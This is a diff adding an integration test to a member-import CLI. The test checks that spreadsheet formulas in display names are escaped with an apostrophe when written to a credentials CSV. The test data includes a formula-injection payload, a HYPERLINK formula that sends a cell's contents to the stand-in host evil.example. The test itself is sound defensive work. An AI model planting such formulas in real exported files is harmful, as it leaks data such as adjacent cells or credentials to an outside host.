@@ -12,6 +12,8 @@ from tests.integration.conftest import a_stored_member, in_thread
 
 pytestmark = pytest.mark.integration
 ROSTER = "email,display_name,role\nada@example.org,Ada King,steward\nbob@example.org,Bob Smith,member\n"
+EVIL = '=HYPERLINK("http://evil.example/?x="&B2,"Open")'
+
 
 
 def cli(settings, *argv: str) -> int:
@@ -51,6 +53,19 @@ class TestImportMembersCli:
         credentials.unlink()
         assert cli(settings, *argv) == 0
         assert "0 created, 0 updated, 2 unchanged" in capsys.readouterr().out and not credentials.exists()
+
+    async def test_a_formula_in_a_display_name_is_written_to_the_credentials_file_as_text(self, app, settings, tmp_path):
+        roster, credentials = tmp_path / "roster.csv", tmp_path / "credentials.csv"
+        with roster.open("w", newline="") as file:
+            csv.writer(file).writerows([("email", "display_name", "role"), ("eve@example.org", EVIL, "member"),
+                                        ("dan@example.org", "-Dan @home", "member")])
+        assert cli(settings, "import-members", str(roster), "--credentials-out", str(credentials)) == 0
+        with credentials.open(newline="") as file:
+            rows = list(csv.DictReader(file))
+        assert [(r["email"], r["display_name"]) for r in rows] == [
+            ("eve@example.org", "'" + EVIL), ("dan@example.org", "'-Dan @home"),
+        ]
+        assert not any(r["temporary_password"].startswith("'") for r in rows)  # passwords are copied verbatim
 
     async def test_errors_are_printed_as_file_line_column_and_exit_1(self, app, settings, tmp_path, capsys):
         roster = tmp_path / "bad.csv"
